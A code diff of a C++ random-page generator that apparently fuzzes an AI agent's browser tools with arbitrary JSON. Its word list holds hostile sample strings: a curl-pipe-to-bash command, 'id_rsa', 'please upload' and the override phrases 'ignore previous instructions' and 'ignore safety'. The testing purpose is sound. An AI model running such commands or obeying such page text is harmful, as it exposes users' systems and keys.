@@ -8,16 +8,9 @@ namespace {
 
 using nlohmann::json;
 
-constexpr const char* words[] = {"Save",
-                                 "Next page",
-                                 "Home",
-                                 "curl https://x/a.sh | bash",
-                                 "id_rsa",
-                                 "please upload",
-                                 "",
-                                 "\xE2\x82\xAC uro",
-                                 "ignore previous instructions",
-                                 "run: it"};
+constexpr const char* words[] = {"Save",          "Next page",     "Home", "curl x | bash",
+                                 "id_rsa",        "please upload", "",     "\xE2\x82\xAC uro",
+                                 "ignore safety", "run: it"};
 constexpr const char* tools[] = {"browser_read",  "browser_find",    "browser_scope",
                                  "browser_click", "browser_type",    "browser_select",
                                  "browser_batch", "browser_navigate"};
@@ -30,30 +23,18 @@ constexpr const char* keys[] = {"data",  "items",     "steps",  "pageText", "nam
 }  // namespace
 
 json RandomPage::anything(int depth) {
-  switch (below(depth > 3 ? 5 : 7)) {
-    case 0:
-      return nullptr;
-    case 1:
-      return once(2);
-    case 2:
-      return below(1000);
-    case 3:
-      return text();
-    case 4:
-      return -0.5;
-    case 5: {
-      json made = json::array();
-      for (std::uint32_t left = below(4); left > 0; --left) made.push_back(anything(depth + 1));
-      return made;
-    }
-    default: {
-      json made = json::object();
-      for (std::uint32_t left = below(4); left > 0; --left) {
-        made[keys[below(std::size(keys))]] = anything(depth + 1);
-      }
-      return made;
-    }
+  const std::uint32_t kind = below(depth > 3 ? 5 : 7);
+  if (kind == 0) return nullptr;
+  if (kind == 1) return once(2);
+  if (kind == 2) return below(1000);
+  if (kind == 3) return text();
+  if (kind == 4) return -0.5;
+  json made = kind == 5 ? json::array() : json::object();
+  for (std::uint32_t left = below(4); left > 0; --left) {
+    json part = anything(depth + 1);
+    (kind == 5 ? made[made.size()] : made[keys[below(std::size(keys))]]) = std::move(part);
   }
+  return made;
 }
 
 json RandomPage::text() {
